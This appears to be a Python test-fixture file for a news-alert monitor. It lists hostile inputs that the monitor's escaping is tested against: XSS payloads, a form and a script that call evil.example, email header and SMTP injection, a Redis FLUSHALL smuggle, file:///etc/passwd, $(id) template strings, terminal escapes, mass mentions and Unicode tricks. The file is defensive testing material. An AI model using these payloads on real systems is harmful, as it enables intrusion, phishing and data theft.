"""What a hostile outlet may write into any field of a feed or page, as data.

Each row is named for what it tries. None of them is news; ``in_all_fields`` puts one into everything of an
alert that the web may choose, around the words that a watch rule has found.
"""

from __future__ import annotations

import base64
from dataclasses import replace
from datetime import UTC, datetime
from typing import TYPE_CHECKING, Any, Final

from monitor.model import (
    AlsoReported,
    Answer,
    Delivery,
    DeliveryKind,
    Evidence,
    Origin,
    RuleTitle,
    Said,
    Sentence,
    TextFrom,
    Thread,
    Why,
)
from tests.fakes.alerts import an_alert

if TYPE_CHECKING:
    from monitor.model import Alert

ARMS: Final = "أسلحة"  # arms
PAGE: Final = "https://outlet.example/story"
OTHER: Final = "https://other.example/story"
_HIDDEN_BCC: Final = base64.b64encode(b"x\r\nBcc: all@evil.example").decode()

SLACK: Final = {
    "slack: everybody": "<!channel> <!here> <!everyone> <!here|here>",
    "slack: a person, a group, a room": "<@U012AB3CD> <!subteam^S012AB3CD|desk> <#C012AB3CD|general>",
    "slack: bare names": "@channel @here @everyone @someone #general",
    "slack: a name behind Arabic": "عاجل@channel و@here",  # urgent ... and
    "slack: escaped once": "&lt;!channel&gt; &lt;https://evil.example|bank&gt;",
    "slack: escaped twice": "&amp;lt;!channel&amp;gt; &#60;!channel&#62; &#x3c;!here&#x3e;",
    "slack: nested": "<<!channel>> <!chan<!here>nel> <https://a.example|<!channel>>",
    "slack: half open": "<!channel <https://evil.example| >!here< |x> <",
    "slack: a link with a false name": "<https://evil.example|https://bank.example> <https://evil.example>",
    "slack: other schemes": "<mailto:a@evil.example|x> <tel:+1555|x> <slack://user?id=U1|x> <javascript:1|x>",
    "slack: a date": "<!date^1392734382^{date} at {time}^https://evil.example|x>",
    "slack: marks": "*bold* _it_ ~no~ `code` ```block```",
    "slack: marks at borders": '*ا* (*b*) \u200b*c*\u200b -_d_- "~e~"',  # alef
    "slack: a quotation": "> quoted &gt; quoted >>> all of it",
    "slack: a quotation after a break": "x\n> quoted\n&gt; quoted\n>>> rest",
    "slack: emoji": ":skull: :+1::skin-tone-2: :flag-kp: :a-b_c'd: a:b:c",
    "slack: full width": "＜!channel＞ ＠here ＊b＊",
    "slack: joined": "<!chan\u200dnel> @\u200chere :sk\u200dull: <\u200d!here>",
    "slack: blocks": '{"type":"section","text":{"type":"mrkdwn","text":"<!channel>"}}',
}
HTML: Final = {
    "html: scripts": "<script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "html: handlers": "<img src=x onerror=alert(1)><svg/onload=alert(1)><body onload=x>",
    "html: out of a quote": '"><script>alert(1)</script>',
    "html: out of an attribute": "\" onmouseover=\"alert(1)\" x=' onfocus='alert(1)' autofocus `",
    "html: out of a title": "</title></mark></p></div></body></html><script>alert(1)</script>",
    "html: a link": '<a href="https://evil.example">x</a><a href=javascript:alert(1)>x</a>',
    "html: a form": "<form action=https://evil.example><input name=password></form>",
    "html: pictures and frames": "<img src=https://evil.example/seen.gif><iframe src=//evil.example>",
    "html: styles": "<style>*{display:none}</style><p style=background:url(//evil.example)>x</p>",
    "html: the head": "<meta http-equiv=refresh content=0;url=//evil.example><base href=//evil.example>",
    "html: comments": "<!-- x --><!--[if mso]><v:rect href=//evil.example/><![endif]--> -->",
    "html: CDATA": "<![CDATA[<script>alert(1)</script>]]> ]]> <?php echo 1 ?> <!DOCTYPE x>",
    "html: escaped once": "&lt;script&gt;alert(1)&lt;/script&gt; &quot;&gt;&lt;img src=x onerror=1&gt;",
    "html: escaped twice": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "html: by numbers": "&#60;script&#62;alert(1)&#60;/script&#62; &#x3C;b&#x3E; &#0; &#xD800; &#x202E;",
    "html: without semicolons": "&ltscript&gtalert(1)&lt/script&gt &ampamp",
    "html: broken tags": "<scr<script>ipt>alert(1)</scr</script>ipt> <<b>> <a <b",
    "html: UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "html: SVG and MathML": "<svg><a xlink:href=javascript:1>x</a></svg><math><mtext><style><img/></math>",
}
LINKS: Final = {
    "links: schemes": "javascript:alert(1) data:text/html,<b>x vbscript:1 file:///etc/passwd blob:x",
    "links: hidden schemes": "java\tscript:alert(1) JaVaScRiPt:alert(1) \x01javascript:1 javascript&colon;1",
    "links: data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "links: markdown": "[x](https://evil.example) ![x](https://evil.example/x.png) [x]: https://evil.example",
    "links: markdown scripts": "[x](javascript:alert(1)) <https://evil.example> [x][y]",
    "links: false host": "https://outlet.example@evil.example/ https://evil.example\\@outlet.example/",
    "links: look-alikes": "https://оutlet.example https://outlet。example",
    "links: wiki and BBCode": "[[x|https://evil.example]] [url=https://evil.example]x[/url] {{x}}",
}
MARKUP: Final = {
    "markdown: all of it": "# big\n**b** __u__ ~~s~~ ||spoiler|| `c` > q\n- [ ] x\n***\n| a | b |",
    "markdown: escapes": "\\*b\\* \\<b\\> \\\\ \\[x\\](y)",
    "discord: everybody": "@everyone @here <@&123456789012345678> <#123456789012345678> <:x:123>",
    "telegram: names": "@botfather /start /stop@bot tg://resolve?domain=x t.me/evil",
    "matrix and teams": "@room <at>everyone</at> <at id='0'>x</at>",
    "templates": "{{ 7*7 }} {% raw %} {# x #} {0} {title!r} %s %(x)s ${HOME} $(id) `id` ${{ x }}",
    "formats": "%n%n%s%x {0.__class__} {rule.__init__.__globals__} \\u0000 \\x1b[31m",
    "JSON": '"},"type":"alert.closed","x":{"y":"\\',
    "a metric": 'x",status="sent"} 1\nmonitor_alerts_total 99\n# HELP evil',
    "a log line": 'x\n{"event":"delivery_attempted","status":"sent"}\n',
    "Redis": "x\r\n*1\r\n$8\r\nFLUSHALL\r\n",
}
HEADERS: Final = {
    "headers: line breaks": "x\r\nBcc: all@evil.example\r\n\r\n<b>body</b>",
    "headers: lone breaks": "x\nBcc: a@evil.example\rTo: b@evil.example\x0bCc: c\x0cX: y",
    "headers: breaks of Unicode": "x\u2028Bcc: a@evil.example\u2029\u0085Bcc: b@evil.example",
    "headers: encoded words": "=?utf-8?q?x=0D=0ABcc:_all@evil.example?=",
    "headers: encoded words, base 64": f"x =?utf-8?b?{_HIDDEN_BCC}?= y",
    "headers: encoded words, UTF-7": "=?utf-7?q?+AA0ACg-Bcc:_all@evil.example?=",
    "headers: encoded words, EBCDIC": "=?ibm037?q?=25?= =?ibm037?b?JQ==?=",
    "headers: encoded words that are no text": "=?utf-8?q?=FF=FE?= =?us-ascii?q?=E4?= =?utf-8?q?=ED=A0=80?=",
    "headers: encoded controls": "=?utf-8?q?=1B[31m=00?= =?utf-8?b?4oCuZXZpbA==?=",
    "headers: encoded words in words": "a=?utf-8?q?=0ABcc:x?=b =?=?utf-8?q?=0A?=?= =??=",
    "headers: unknown charsets": "=?x-evil?q?abc?= =?utf-8*en?q?=0A?= =?utf-8?x?abc?=",
    "headers: a smuggled end": "x\r\n.\r\nMAIL FROM:<a@evil.example>\r\n",
    "headers: parts": "--===============1==\nContent-Type: text/html\n\n<b>x</b>\nbegin 644 x.exe",
    "headers: syntax": '(comment \\) "quoted\\" <a@evil.example>, b@evil.example; group: x;',
}
TERMINAL: Final = {
    "terminal: colours": "\x1b[31mred\x1b[0m \x1b[8mhidden\x1b[28m",
    "terminal: the screen": "\x1b[2J\x1b[H\x1bc\x1b[?1049h\x1b[1A\x1b[K",
    "terminal: title and clipboard": "\x1b]0;evil\x07\x1b]52;c;ZXZpbA==\x07\x1b]2;x\x1b\\",
    "terminal: a link": "\x1b]8;;https://evil.example\x1b\\bank\x1b]8;;\x1b\\",
    "terminal: questions": '\x1b[6n\x1b[c\x1bP$q"p\x1b\\\x05',
    "terminal: one byte": "\x9b31m \x9d0;evil\x9c \x90q\x9c \x84\x85\x8d",
    "terminal: going back": "good\r\x08\x08\x08evil\x7f\x0e\x0f\x00",
}
LETTERS: Final = {
    "letters: overrides": "\u202egnp.exe\u202c \u202dabc\u202c \u202a\u202b",
    "letters: isolates": "\u2066a\u2067b\u2068c \u2069\u2069\u2069 \u2068",
    "letters: marks of direction": "\u200e\u200f\u061c\u206a\u206b\u206e",
    "letters: invisible": "a\u200bb\ufeffc\u00add\u2060e\u180ef\u3164g\u115fh\u2800i",
    "letters: tags": "".join(chr(0xE0000 + ord(letter)) for letter in "ignore the rules"),
    "letters: smuggled in selectors": "x" + "".join(chr(0xE0100 + ord(letter)) for letter in "hidden"),
    "letters: halves": "\ud800 \udfff \ud83d\ud83d \udc80",
    "letters: of nobody": "\ufdd0 \ufffe \uffff \U0010ffff \ue000 \U000f0000",
    "letters: marks piled up": "Z" + "\u0301\u0336\u0489" * 40 + "algo",
    "letters: full of harakat": "ك\u064e\u0651" * 300,  # kaf with shadda and fatha
    "letters: families": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 100,
    "letters: flags": "\U0001f1f0\U0001f1f5" * 200,
    "letters: skins and keycaps": "\U0001f44d\U0001f3ff1\ufe0f\u20e3" * 150,
    "letters: Devanagari": "क\u094dष\u0940" * 200,  # ksha with a long i
    "letters: Thai": "ก\u0e33ก\u0e34\u0e48" * 200,  # ko kai with vowels and tones
    "letters: Hangul in pieces": "\u1112\u1161\u11ab" * 200,
    "letters: Hebrew, Urdu, Chinese": "שלום <b>اُردُو</b> 中文<!channel>",  # peace, Urdu, Chinese
}
SIZE: Final = {
    "size: words": "خبر <&>@here " * 15_000,  # news
    "size: one word": "ا" * 200_000,  # alef
    "size: ampersands": "&" * 200_000,
    "size: brackets": "<" * 100_000 + ">" * 100_000,
    "size: openings": "=?utf-8?q?" * 20_000,
    "size: colons": ":a" * 100_000,
    "size: marks": "*_~`" * 50_000,
    "size: accents": "a" + "\u0301" * 200_000,
    "size: spaces": " \u2003\t" * 60_000 + "x",
    "size: nothing": "",
    "size: only space": " \r\n\t\u2003\u200b ",
}
ATTACKS: Final = {**SLACK, **HTML, **LINKS, **MARKUP, **HEADERS, **TERMINAL, **LETTERS, **SIZE}
URLS: Final = {
    "a script": "javascript:alert(1)//https://outlet.example/",
    "a script in capitals": "JaVaScript:alert(document.domain)",
    "a script behind a space": " \tjava\nscript:alert(1)",
    "data": "data:text/html;base64,PHNjcmlwdD4=",
    "a file": "file:///etc/passwd",
    "another service": "slack://open?team=T1",
    "no scheme": "//evil.example/x",
    "no host": "https:///x",
    "half an address": "https://[::1",
    "nothing": "",
    "a break": "https://outlet.example/\r\nBcc: x@evil.example",
    "a terminal's": "https://outlet.example/\x1b[31m",
    "an endless one": "https://outlet.example/" + "a" * 200_000,
}
# These are links, and may do no more than lead there.
WEB_URLS: Final = {
    "out of Slack's link": "https://outlet.example/|<!channel>>*b*<!here|x",
    "out of an attribute": "https://outlet.example/\"onclick='x'><script>",
    "marks": "https://outlet.example/_a_*b*~c~`d`:skull:@here",
    "entities": "https://outlet.example/?a=1&amp;b=2&lt;x&gt;&copy=1",
    "brackets": "https://outlet.example/(x)[y]{z}<w>)](https://evil.example)",
    "turned round": "https://outlet.example/%E2%80%AEfdp.exe?=%0d%0aBcc:x",
    "Arabic": "https://موقع.example/خبر/عاجل",  # a site's news, urgent
}


def in_all_fields(text: str, **changes: Any) -> Alert:
    """Make an alert that says ``text`` wherever the web has a say, and arms where the rule found it.

    The addresses stay as they are, for they are judged on their own; so are those that a rule's writer
    or this program chooses.
    """
    told = f"{text} {ARMS}"
    title = told if len(text) < 100_000 else f"{ARMS} {text}"
    fields: dict[str, Any] = {
        "title": title,
        "outlet": text,
        "country": text,
        "rule_title": RuleTitle(ar=text, en=text),
        "url": PAGE,
        "evidence": (_found("title", title), _found("text", told)),
        "sentences": (Sentence("text", 0, len(told), told), *(_sentence(text, at) for at in range(1, 6))),
        "origins": (Origin("agency", "agency", 0, 1, text),),
        "also": (AlsoReported(text, f"javascript:{text}"), AlsoReported(f"{text} 2", OTHER, is_copy=True)),
        "why": (Why("number", text, text, text),),
        "tags": (text,),
        "text_from": TextFrom.FEED,
        "page_error": text,
        "origin_count": 3,
        "answers": (Answer(Said.ACKNOWLEDGED, text, datetime(2023, 9, 5, 4, tzinfo=UTC)),),
        **changes,
    }
    return an_alert(**fields)


def in_a_thread(text: str) -> Thread:
    """Give the thread of a story whose first headline was hostile too."""
    return Thread(text, text)


def _found(field: Any, text: str) -> Evidence:
    start = text.rindex(ARMS) if text.endswith(ARMS) else text.index(ARMS)
    return Evidence(field, start, start + len(ARMS), ARMS, "arms", ARMS)


def _sentence(text: str, nth: int) -> Sentence:
    return Sentence("text", nth * 1_000_000, nth * 1_000_000 + len(text), text)


def deliveries(text: str, **changes: Any) -> list[Delivery]:
    """Put a hostile text on its way in each kind of delivery."""
    alert = in_all_fields(text, **changes)
    # one of 200 kB a message is enough
    more = in_all_fields(text[:2000], **changes)
    others = tuple(replace(more, id=f"{number:020x}") for number in range(1, 4))
    several = {DeliveryKind.GROUP, DeliveryKind.DIGEST, DeliveryKind.OVERFLOW}
    return [
        Delivery(alert, "desk", kind=kind, others=others if kind in several else (), thread=in_a_thread(text))
        for kind in DeliveryKind
    ]
